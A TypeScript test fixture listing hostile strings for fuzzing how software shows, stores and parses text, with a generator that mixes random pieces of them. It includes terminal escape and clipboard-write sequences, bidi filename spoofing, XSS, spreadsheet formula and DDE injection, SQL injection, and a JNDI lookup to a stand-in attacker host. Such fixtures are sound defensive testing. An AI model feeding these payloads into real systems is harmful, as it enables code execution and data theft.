/** Texts that harm what shows, stores or parses them carelessly. None of them is harmless by itself. */
const hostile: readonly string[] = [
  '\u001b[31;5mblinks red\u001b[0m',
  '\u001b[2J\u001b[1;1Hclears the screen',
  '\u001b]0;names the window\u0007',
  '\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\',
  '\u001b]52;c;ZXZpbA==\u0007 writes the clipboard',
  '\u001bP1$tx\u001b\\ and \u001b_apc\u001b\\ and \u001b^pm\u001b\\',
  '\u009b31m in one byte \u009d0;title\u009c',
  'overwrites\rthe line',
  'two\nlines\r\nthree\vfour\ffive',
  'back\b\b\b\bspace and \u007fdelete',
  'nul\u0000inside',
  '\u0007\u0007\u0007',
  '\u000e shifts out \u000f',
  'user\u202etxt.exe',
  '\u202aembeds\u202b \u202doverrides\u202c',
  '\u2066isolates \u2067right\u2069 \u2068first\u2069',
  'marks \u200e\u200f\u061c',
  'breaks\u2028lines\u2029paragraphs\u0085next',
  'half \ud800 a pair \udfff',
  '\udc00\ud800 reversed',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030falgo',
  'ﷺ'.repeat(40),
  '東京'.repeat(80),
  '👩‍👩‍👧‍👦'.repeat(40),
  'שלום mixed עולם with مرحبا and 1234',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example";"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  "Robert'); DROP TABLE videos;--",
  '%s%n%d %(x)s {0} ${jndi:ldap://evil.example/a}',
  '\\u001b[31m \\x1b[31m \\033[31m',
  '',
  ' ',
  '\t',
  '\ufeffbyte order mark',
  '\u200b\u200c\u200d\u2060',
  '__proto__',
  'undefined',
  'x'.repeat(10_000),
];

/** `count` hostile texts: those above, and then, by a generator that gives numbers in [0, 1), mixtures of pieces of them. */
export function hostileTexts(count: number, random: () => number): string[] {
  const pick = (): string => hostile[Math.floor(random() * hostile.length)] ?? '';
  const piece = (text: string): string => text.slice(Math.floor(random() * text.length), Math.floor(random() * text.length) + 12);
  const any = (): string => String.fromCharCode(Math.floor(random() * (random() < 0.5 ? 0xa0 : 0x1_00_00)));
  return Array.from({ length: count }, (_, index) => hostile[index] ?? piece(pick()) + any() + piece(pick()) + any() + any());
}
